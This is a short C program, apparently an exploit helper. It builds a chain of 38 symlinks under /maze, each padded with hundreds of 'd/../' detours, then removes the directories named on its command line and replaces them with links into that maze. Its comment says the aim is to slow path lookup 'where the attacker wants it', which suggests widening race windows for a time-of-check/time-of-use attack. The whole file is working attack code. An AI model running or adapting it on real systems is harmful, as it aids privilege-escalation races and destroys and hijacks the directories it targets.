/* SPDX-License-Identifier: Apache-2.0 */

/*
 * maze DIRECTORY...: every DIRECTORY becomes a link that takes long to follow, because each of 38 links goes
 * up and down many times before it comes to the next. Whoever looks for a program in it is slow, where the
 * attacker wants it to be.
 */

#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { LINKS = 38, DETOURS = 800 };

static int make_link(int i)
{
	char name[32], target[4096] = "", *end = target;

	for (int k = 0; k < DETOURS; k++)
		end = stpcpy(end, "d/../");
	if (i + 1 < LINKS)
		snprintf(end, 16, "l%d", i + 1);
	else
		strcpy(end, "d");
	snprintf(name, sizeof(name), "/maze/l%d", i);
	return symlink(target, name);
}

int main(int argc, char **argv)
{
	if (mkdir("/maze", 0755) < 0 || mkdir("/maze/d", 0755) < 0) {
		perror("/maze");
		return 1;
	}
	for (int i = 0; i < LINKS; i++)
		if (make_link(i) < 0) {
			perror("link");
			return 1;
		}
	for (int i = 1; i < argc; i++) {
		rmdir(argv[i]);
		if (symlink("/maze/l0", argv[i]) < 0) {
			perror(argv[i]);
			return 1;
		}
	}
	return 0;
}
